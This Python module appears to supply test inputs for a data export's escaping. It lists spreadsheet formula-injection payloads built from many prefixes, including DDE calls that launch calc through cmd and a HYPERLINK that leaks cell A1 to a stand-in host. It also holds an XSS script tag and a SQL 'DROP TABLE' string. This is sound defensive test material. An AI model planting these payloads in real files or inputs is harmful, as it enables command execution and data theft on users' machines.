"""Invented texts that mean harm, or only trouble, to whoever opens an export."""

import itertools

#: 10 beginnings × 10 endings; a spreadsheet would run most of them
FORMULAS = tuple(
    first + rest
    for first, rest in itertools.product(
        ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"),
        (
            "1+1",
            "cmd|' /C calc'!A0",
            'HYPERLINK("http://example.invalid/?x="&A1,"虚构")',
            "SUM(1,2)*3",
            'IMPORTXML("http://example.invalid";"//a")',
            "2+5+cmd|' /C notepad'!A0",
            "WEBSERVICE('http://example.invalid')",
            'DDE("cmd","/C calc","x")',
            "-1%虚构",
            "",
        ),
    )
)
TEXTS = (
    "",
    " ",
    "'",
    "'=已有撇号",
    "''+两个撇号",
    "'虚构",
    '他说"虚构"，又说""',
    "一行\n二行\n\n四行",
    "逗号,分号;竖线|制表\t反斜杠\\",
    '\\"\\\',"\n"',
    "😀 👩‍🔬 é é 𠮷",
    "<script>alert(1)</script>",
    "# 标题\n| 表 | 格 |\n`代码` [链接](http://example.invalid)",
    "NULL",
    "nan",
    "-",
    "true",
    "2026-01-01",
    "00012",
    "1e5",
    "٣٤",
    "x" * 70000,
    "%s %d {0} {{}} $HOME",
    "; DROP TABLE items; --",
    "\u00a0非断空格\u3000全角空格",
)
